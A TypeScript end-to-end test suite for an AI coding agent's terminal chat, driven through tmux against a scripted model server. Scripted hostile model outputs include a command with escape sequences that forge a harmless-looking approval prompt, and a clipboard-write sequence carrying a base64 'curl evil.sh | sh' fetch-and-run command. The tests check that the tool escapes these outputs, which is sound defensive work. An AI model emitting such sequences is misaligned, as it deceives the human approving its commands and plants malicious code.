// The REPL in a real terminal: `xzatoma chat` runs inside tmux against the scripted
// Ollama server; the test types with send-keys and reads the screen with capture-pane.
import { existsSync } from "node:fs";
import { readFile, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import {
  startScriptedOllama,
  type OllamaChatRequest,
  type ScriptedOllama,
  type ScriptedTurn,
} from "@xzatoma/scripted-servers/ollama";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startChatInTmux } from "./chat-terminal.test-support.js";
import { killSession, terminalSession, tmux } from "./terminal.test-support.js";
import { makeTestDirectories } from "./workspace.test-support.js";
const SESSION = `xz-chat-${process.pid}`;
/** A command that, printed raw, would erase its own line and show a harmless `ls -la`. */
const SPOOF = "bash setup.sh #\r\x1b[2K? terminal wants to: ls -la ...\x1b[8m";
/** Model text that, printed raw, would write the clipboard, retitle the window and clear the screen. */
const HOSTILE_TEXT =
  "Here: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 and \x1b]0;pwned\x07 then \x1b[2J\u202egnp.exe end.";

function scenario(request: OllamaChatRequest): ScriptedTurn {
  const last = request.messages.at(-1);
  if (last?.role === "tool") return { content: `Tool said: ${last.content.split("\n")[0] ?? ""}` };
  const text = request.messages.findLast((message) => message.role === "user")?.content ?? "";
  if (text.startsWith("hello")) return { content: "Hello from the scripted model." };
  if (text.startsWith("make a file"))
    return { toolCalls: [{ name: "terminal", arguments: { command: "echo made > out.txt" } }] };
  if (text.startsWith("set up the project"))
    return { toolCalls: [{ name: "terminal", arguments: { command: SPOOF } }] };
  if (text.startsWith("say something odd")) return { content: HOSTILE_TEXT };
  if (text.startsWith("split the work")) {
    const tasks = ["a", "b"].map((name) => ({
      label: name,
      task_prompt: `child task: write ${name}`,
    }));
    return { toolCalls: [{ name: "parallel_subagent", arguments: { tasks } }] };
  }
  const child = /child task: write ([ab])/.exec(text);
  if (child) {
    const name = child[1] ?? "";
    return {
      toolCalls: [{ name: "terminal", arguments: { command: `echo ${name} > ${name}.txt` } }],
    };
  }
  if (text.startsWith("tell me a long story")) {
    return { content: `Once upon a time ${"and then ".repeat(120)}the end.`, chunkDelayMs: 40 };
  }
  return { content: "ok" };
}

const count = (text: string, needle: string) => text.split(needle).length - 1;

const { screen, waitFor, type } = terminalSession(() => SESSION);

let base: string;
let workspace: string;
let server: ScriptedOllama;

beforeAll(async () => {
  const directories = await makeTestDirectories("xz-chat-");
  ({ base, workspace } = directories);
  await writeFile(path.join(workspace, "README.md"), "# Project\n");
  server = await startScriptedOllama({ scenario });
  startChatInTmux({
    session: SESSION,
    home: directories.home,
    args: [
      "--host",
      server.url,
      "-w",
      workspace,
      // Asked before every command that is not provably read-only, so the questions below come.
      "--approval",
      "untrusted",
    ],
  });
});

afterAll(async () => {
  killSession(SESSION);
  await server.close();
  await rm(base, { recursive: true, force: true });
});

describe("xzatoma chat in a terminal", () => {
  it("shows the prompt with mode, approval policy and model, and answers", async () => {
    await waitFor(
      (text) => text.includes("[PLANNING][UNTRUSTED][ollama: llama3.2:latest] >>>"),
      "the prompt",
    );
    type("hello there");
    await waitFor((text) => text.includes("Hello from the scripted model."), "the answer");
  });

  it("has no terminal tool in planning mode, and keeps the conversation across a mode switch", async () => {
    type("make a file");
    await waitFor(
      (text) => text.includes("Tool said: Error: There is no tool named 'terminal'"),
      "the unknown-tool result",
    );
    type("/mode write");
    await waitFor(
      (text) =>
        text.includes("Switched to write mode") &&
        text.includes("[WRITE][UNTRUSTED][ollama: llama3.2:latest] >>>"),
      "write mode",
    );
    expect(
      server.requests.at(-1)?.messages.filter((message) => message.role === "user"),
    ).toHaveLength(2);
  });

  it("asks before running a command, and honours no and then yes", async () => {
    type("make a file");
    await waitFor(
      (text) => count(text, "? terminal wants to: echo made > out.txt") === 1,
      "the first confirmation",
    );
    expect(screen()).toContain("[a]pprove, [e]dit, [r]eject?");
    type("r");
    await waitFor(
      (text) => text.includes("Tool said: Error: The call to 'terminal' was not approved"),
      "the refusal",
    );
    expect(existsSync(path.join(workspace, "out.txt"))).toBe(false);
    type("make a file");
    await waitFor(
      (text) => count(text, "? terminal wants to: echo made > out.txt") === 2,
      "the second confirmation",
    );
    type("a");
    await waitFor((text) => text.includes("Tool said: exit code 0"), "the command's result");
    expect(await readFile(path.join(workspace, "out.txt"), "utf8")).toBe("made\n");
  });

  it("shows a spoofing command exactly as it would run, controls escaped", async () => {
    await writeFile(path.join(workspace, "setup.sh"), "touch ran.txt\n");
    type("set up the project");
    const shownCommand =
      "? terminal wants to: bash setup.sh #\\r\\x1b[2K? terminal wants to: ls -la ...\\x1b[8m  (in .)";
    const asked = await waitFor((text) => {
      const at = text.lastIndexOf(shownCommand);
      return at !== -1 && text.includes("[a]pprove, [e]dit, [r]eject?", at);
    }, "the confirmation of the spoofing command");
    // The forged question never starts a line of its own.
    expect(asked).not.toMatch(/^\? terminal wants to: ls -la/m);
    type("r");
    await waitFor(
      (text) => count(text, "Tool said: Error: The call to 'terminal' was not approved") === 2,
      "the refusal",
    );
    expect(existsSync(path.join(workspace, "ran.txt"))).toBe(false);
  });

  it("asks for parallel subagents' commands one after the other", async () => {
    type("split the work");
    // Both children want a yes at once; each question is asked, in turn.
    const first = await waitFor(
      (text) => /\? terminal wants to: echo ([ab]) > \1\.txt/.test(text),
      "the first child's confirmation",
    );
    const firstName = /\? terminal wants to: echo ([ab]) > \1\.txt/.exec(first)?.[1];
    const secondName = firstName === "a" ? "b" : "a";
    type("a");
    await waitFor(
      (text) => text.includes(`? terminal wants to: echo ${secondName} > ${secondName}.txt`),
      "the second child's confirmation",
    );
    type("a");
    await waitFor((text) => text.includes("Tool said: {"), "the parent's answer");
    const report = server.requests
      .flatMap((request) => request.messages)
      .findLast((message) => message.role === "tool" && message.content.includes('"successful"'));
    expect(report?.content).toContain('"successful": 2');
    expect(await readFile(path.join(workspace, "a.txt"), "utf8")).toBe("a\n");
    expect(await readFile(path.join(workspace, "b.txt"), "utf8")).toBe("b\n");
  });

  it("prints the model's control sequences as visible escapes", async () => {
    type("say something odd");
    const shown = await waitFor((text) => text.includes("gnp.exe end."), "the odd answer");
    expect(shown).toContain(
      "Here: \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 and \\x1b]0;pwned\\x07 then \\x1b[2J\\u202egnp.exe end.",
    );
    // The title sequence did not reach the terminal.
    expect(tmux("display-message", "-p", "-t", SESSION, "#{pane_title}")).not.toContain("pwned");
  });

  it("cancels a streamed answer with Ctrl-C and keeps the session", async () => {
    type("tell me a long story");
    await waitFor((text) => text.includes("Once upon a time"), "the story to start");
    tmux("send-keys", "-t", SESSION, "C-c");
    const after = await waitFor((text) => text.includes("(cancelled)"), "the cancellation");
    expect(after).not.toContain("the end.");
    type("hello again");
    await waitFor(
      (text) => count(text, "Hello from the scripted model.") === 2,
      "an answer after the cancellation",
    );
  });

  it("reports the context and leaves on exit, saying where the conversation went", async () => {
    type("/context");
    await waitFor(
      (text) => /Context: \d+ tokens used, \d+ left of \d+/.test(text),
      "the context line",
    );
    type("exit");
    const final = await waitFor((text) => text.includes("Conversation saved:"), "the goodbye");
    expect(final).toMatch(/xzatoma chat --resume [0-9A-Z]{26}/);
  });
});
